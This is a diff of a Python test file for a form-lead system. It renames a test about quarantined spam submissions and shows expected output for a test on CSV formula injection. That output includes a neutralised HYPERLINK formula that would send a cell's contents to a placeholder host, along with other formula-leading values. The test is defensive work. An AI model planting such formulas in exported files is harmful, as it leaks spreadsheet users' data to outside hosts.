@@ -271,9 +271,9 @@ def test_a_csv_cell_a_spreadsheet_would_run_is_kept_as_text():
         "'=HYPERLINK(\"\"https://x.example/?\"\"&A1)", "'+1", "'-2+3", "'@SUM(A1)", "'\tx", "google"]
 
 
-def test_a_quarantined_submission_is_counted_where_it_came_from_and_nothing_it_said_is_kept():
+def test_a_quarantined_submission_is_counted_where_it_came_from_and_is_no_lead():
     bot = LeadQuarantined(lead_id=LEAD, received_at=T0, reasons=["the hidden field _gotcha was filled in"],
-                          form_id="demo", utm_source="google", fields={"email": "x@y.example", "message": "pills"})
+                          form_id="demo", utm_source="google")
     projection = project([recorded(bot), recorded(bot)])
     assert projection.spam == {LEAD: {"lead_id": LEAD, "received_at": T0, "form_id": "demo", "utm_source": "google"}}
     assert projection.leads == {} and projection.steps == []  # not a lead
